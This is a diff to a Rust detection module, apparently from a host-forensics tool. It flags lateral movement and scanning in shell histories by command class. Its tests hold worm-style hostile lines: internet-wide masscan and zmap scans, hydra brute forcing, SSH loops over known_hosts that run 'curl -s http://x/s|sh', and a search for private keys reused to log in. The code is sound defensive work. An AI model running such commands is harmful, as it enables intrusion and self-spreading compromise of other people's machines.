@@ -3,12 +3,19 @@
 //!   `history -c`, `rm ~/.bash_history` in a history or a start-up file, or a history file that is a
 //!   symlink to `/dev/null`. In a start-up file it persists (subject `Persistence{path,line}`, medium);
 //!   in a history it was typed (low, medium with two or more).
-//! - `MT-LAT-001` lateral movement and scanning typed in a history (T1021.004, T1046): `pnscan`,
-//!   `masscan`, `zmap`, `sshpass`, `hydra` (medium); `ssh`/`scp` loops over `known_hosts` (medium);
-//!   a plain `ssh`/`scp` is what admins do and is not reported.
+//! - `MT-LAT-001` lateral movement and scanning typed in a history (T1021.004, T1046, T1110), judged by
+//!   the class of what was typed, never by a tool's name alone (medium): a network login guesser
+//!   (`brute_tool`: hydra, medusa); a scanner (`scan_tool`: masscan, zmap, pnscan, nmap) aimed at the
+//!   internet — a public address, a /8 or wider range, random targets (`-iR`, zmap with no range) — where
+//!   an admin's sweep of the host's own networks (private ranges, link-local, loopback, names) is
+//!   routine; an SSH client (`ssh_client`: ssh, scp, rsync, sshpass) fed with targets or keys harvested
+//!   from the host (`known_hosts`, shell histories, ssh configs, a search for private keys), where an
+//!   admin's `ssh -i ~/.ssh/id_ed25519 web1` or `for h in web1 web2; do ssh $h uptime; done` is not.
 //!
 //! Histories are evidence, not persistence: their lines are named by file and line in the evidence,
 //! never as `Persistence` subjects, so no remediation edits them.
+
+use std::net::IpAddr;
 
 use minetrace_schemas::findings::{Finding, Role, Severity};
 use minetrace_schemas::records::file::FileKind;
@@ -16,11 +23,108 @@ use minetrace_schemas::records::file::FileKind;
 use super::common::{self, account_subject, describe_file, quote_line};
 use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
 use crate::detect::rules;
+use crate::detect::runtime::support;
 use crate::detect::Context;
 use crate::indicators::Kind;
 use crate::model::persistence::PersistenceKind;
+use crate::parse::numbered_lines;
 use crate::parse::shell_line;
-use crate::parse::{contains, numbered_lines};
+use crate::remediate::attribution::{infrastructure, HostNetwork};
+
+/// Why a line typed in a history is lateral movement or scanning ([`crate::detect::footholds::history`]
+/// module documentation), or `None` for an admin's ordinary work.
+fn lateral_class(ctx: &Context, raw: &[u8], commands: &[Vec<u8>]) -> Option<String> {
+    let named = |kind: Kind| {
+        commands
+            .iter()
+            .find(|c| ctx.iocs.contains(kind, &String::from_utf8_lossy(c)))
+    };
+    if let Some(b) = named(Kind::BruteTool) {
+        return Some(format!(
+            "runs {}, a network login guesser",
+            minetrace_schemas::escape_bytes(b)
+        ));
+    }
+    if let Some(sc) = named(Kind::ScanTool) {
+        return scan_outside(ctx, raw, sc).map(|why| {
+            format!(
+                "runs the scanner {} at {why}",
+                minetrace_schemas::escape_bytes(sc)
+            )
+        });
+    }
+    if let Some(c) = named(Kind::SshClient) {
+        return harvested(raw)
+            .map(|what| format!("runs {} with {what}", minetrace_schemas::escape_bytes(c)));
+    }
+    None
+}
+
+/// Whether a scanner's line aims beyond the host's own networks: a public address (neither private,
+/// link-local, shared nor loopback: the remediation's infrastructure test), a range of /8 or wider,
+/// random targets (`-iR`), or zmap with no range (the whole IPv4 space).
+fn scan_outside(ctx: &Context, raw: &[u8], scanner: &[u8]) -> Option<String> {
+    let text = String::from_utf8_lossy(raw);
+    let words: Vec<&str> = text
+        .split(|c: char| c.is_ascii_whitespace() || "'\";|&(),".contains(c))
+        .filter(|w| !w.is_empty())
+        .collect();
+    if words
+        .iter()
+        .any(|w| *w == "-iR" || *w == "--random-targets")
+    {
+        return Some("random internet addresses".into());
+    }
+    let network = HostNetwork::of(ctx.model);
+    let mut any_target = false;
+    for w in &words {
+        let (addr, prefix) = match w.split_once('/') {
+            Some((a, p)) => (a, p.parse::<u8>().ok()),
+            None => (*w, None),
+        };
+        // masscan's `a.b.c.d-e.f.g.h` and nmap's `10.0.0.1-254`, `10.0.0.*`: the first address.
+        let first = addr.split('-').next().unwrap_or(addr).replace('*', "0");
+        let Ok(ip) = first.parse::<std::net::Ipv4Addr>() else {
+            continue;
+        };
+        any_target = true;
+        if prefix.is_some_and(|p| p <= 8) {
+            return Some(format!("{}, a range of the internet's size", support::q(w)));
+        }
+        let ip = IpAddr::V4(ip);
+        if !ip.is_loopback() && infrastructure(ip, &network).is_none() {
+            return Some(format!("{}, a public address", support::q(w)));
+        }
+    }
+    (scanner == b"zmap"
+        && !any_target
+        && !words
+            .iter()
+            .any(|w| w.starts_with("-w") || *w == "--allowlist-file" || *w == "--whitelist-file"))
+    .then(|| "no range, which zmap takes for the whole IPv4 space".into())
+}
+
+/// What an SSH client's line harvested from the host to pick its targets or keys, when it did.
+fn harvested(raw: &[u8]) -> Option<&'static str> {
+    let l = String::from_utf8_lossy(raw).to_ascii_lowercase();
+    if l.contains("known_hosts") {
+        return Some("targets read from known_hosts");
+    }
+    if l.contains("_history") {
+        return Some("targets read from a shell history");
+    }
+    if l.contains(".ssh/config") && (l.contains("grep") || l.contains("awk")) {
+        return Some("targets read from an ssh config");
+    }
+    let key = l.contains("id_rsa")
+        || l.contains("id_dsa")
+        || l.contains("id_ecdsa")
+        || l.contains("id_ed25519")
+        || l.contains(".ssh/id_");
+    let search =
+        l.contains("find ") || l.contains("locate ") || l.contains("/home/*") || l.contains("id_*");
+    (key && search).then_some("private keys searched for on the host")
+}
 
 pub fn detect(ctx: &Context) -> Vec<Finding> {
     let accounts = &ctx.model.accounts;
@@ -82,29 +186,10 @@ pub fn detect(ctx: &Context) -> Vec<Finding> {
             if !s.history_tamper.is_empty() && tamper.len() < 20 {
                 tamper.push(quote_line(&f.path, n, raw));
             }
-            let scanner = s
-                .commands
-                .iter()
-                .find(|c| ctx.iocs.contains_bytes(Kind::Scanner, c));
-            let ssh_like = s
-                .commands
-                .iter()
-                .any(|c| matches!(c.as_slice(), b"ssh" | b"scp" | b"rsync" | b"sftp"));
-            let uses_known_hosts =
-                contains(raw, b"known_hosts") || contains(raw, b"id_rsa") || contains(raw, b"for ");
-            if let Some(sc) = scanner {
+            if let Some(why) = lateral_class(ctx, raw, &s.commands) {
                 lateral_points += 2;
                 if lateral.len() < 20 {
-                    lateral.push(format!(
-                        "{} (runs {})",
-                        quote_line(&f.path, n, raw),
-                        minetrace_schemas::escape_bytes(sc)
-                    ));
-                }
-            } else if ssh_like && uses_known_hosts {
-                lateral_points += 2;
-                if lateral.len() < 20 {
-                    lateral.push(quote_line(&f.path, n, raw));
+                    lateral.push(format!("{} ({why})", quote_line(&f.path, n, raw)));
                 }
             }
         }
@@ -144,16 +229,61 @@ pub fn detect(ctx: &Context) -> Vec<Finding> {
 mod tests {
     use super::*;
     use crate::indicators::Indicators;
-    use crate::model::{fixture, HostModel};
+    use crate::model::fixture;
 
-    fn lateral(model: &HostModel, iocs: &Indicators) -> Vec<String> {
-        crate::detect::findings_of(detect, &rules::LAT_001, model, iocs)
-            .into_iter()
-            .flat_map(|f| f.evidence)
-            .collect()
+    fn lateral_lines(history: &[u8]) -> Vec<String> {
+        let model = fixture::model(
+            vec![fixture::file(b"/root/.bash_history", Some(history))],
+            vec![],
+        );
+        let iocs = Indicators::builtin();
+        detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        })
+        .into_iter()
+        .filter(|f| f.rule == rules::LAT_001.id)
+        .flat_map(|f| f.evidence)
+        .collect()
     }
 
-    /// `scanner` values come from the indicators: a user's file adds a tool the built-in list lacks.
+    /// Review s4 item 5: an admin's ssh, scp, rsync, loops over named hosts and sweeps of the host's own
+    /// networks are routine; the worm's internet scans, harvested targets and keys, and login guessers
+    /// are not.
+    #[test]
+    fn lateral_movement_is_judged_by_class_not_by_tool_name() {
+        let admin = b"ssh -i ~/.ssh/id_ed25519 deploy@10.20.0.15\n\
+scp backup.tar.gz root@db1.internal:/srv/restore/\n\
+for h in web1 web2 web3; do ssh $h 'uptime; df -h /'; done\n\
+nmap -sn 10.20.0.0/24\n\
+nmap -p 22,80,443 192.168.10.1-254 172.16.4.*\n\
+for i in $(seq 1 254); do ping -c1 -W1 10.20.1.$i; done\n\
+sudo nmap -sV localhost\n\
+rsync -az /var/www/ web2:/var/www/\n\
+sshpass -f ~/.pw ssh admin@10.20.0.9 reboot\n";
+        assert_eq!(lateral_lines(admin), Vec::<String>::new());
+        let worm = [
+            &b"masscan 0.0.0.0/0 -p6379 --rate 100000 -oL /tmp/.r\n"[..],
+            b"pnscan 47.96.0.0/16 6379 > .r.txt\n",
+            b"nmap -Pn -p2375 -iR 100000\n",
+            b"zmap -p 2375 -o /tmp/.d\n",
+            b"nmap -p 22 203.0.113.0/24\n",
+            b"for h in $(grep -oE '[0-9]+(\\.[0-9]+){3}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes root@$h 'curl -s http://x/s|sh' & done\n",
+            b"for k in $(find / -name 'id_rsa*' 2>/dev/null | grep -v pub); do ssh -i $k root@$t id; done\n",
+            b"hydra -L users.txt -P pass.txt ssh://10.0.0.5\n",
+        ];
+        for line in worm {
+            assert_eq!(
+                lateral_lines(line).len(),
+                1,
+                "{}",
+                String::from_utf8_lossy(line)
+            );
+        }
+    }
+
+    /// `scan_tool` values come from the indicators: a user's file adds a scanner the built-in list lacks,
+    /// judged like the others by what it scans.
     #[test]
     fn an_iocs_file_adds_scanners() {
         let model = fixture::model(
@@ -163,22 +293,28 @@ mod tests {
             )],
             Vec::new(),
         );
+        let lateral = |iocs: &Indicators| -> Vec<String> {
+            crate::detect::findings_of(detect, &rules::LAT_001, &model, iocs)
+                .into_iter()
+                .flat_map(|f| f.evidence)
+                .collect()
+        };
         let mut iocs = Indicators::builtin();
-        let before = lateral(&model, &iocs);
+        let before = lateral(&iocs);
         assert!(
-            before.iter().any(|e| e.contains("(runs masscan)")),
+            before.iter().any(|e| e.contains("runs the scanner masscan")),
             "{before:?}"
         );
         assert!(!before.iter().any(|e| e.contains("zzscan")), "{before:?}");
-        iocs.add_text("mine.iocs", "scanner zzscan\n").unwrap();
-        let after = lateral(&model, &iocs);
+        iocs.add_text("mine.iocs", "scan_tool zzscan\n").unwrap();
+        let after = lateral(&iocs);
         assert!(
-            after.iter().any(|e| e.contains("(runs zzscan)")),
+            after.iter().any(|e| e.contains("runs the scanner zzscan")),
             "{after:?}"
         );
         // Program names keep their case: `ZZSCAN` is another program.
         let mut upper = Indicators::builtin();
-        upper.add_text("mine.iocs", "scanner ZZSCAN\n").unwrap();
-        assert_eq!(lateral(&model, &upper), before);
+        upper.add_text("mine.iocs", "scan_tool ZZSCAN\n").unwrap();
+        assert_eq!(lateral(&upper), before);
     }
 }
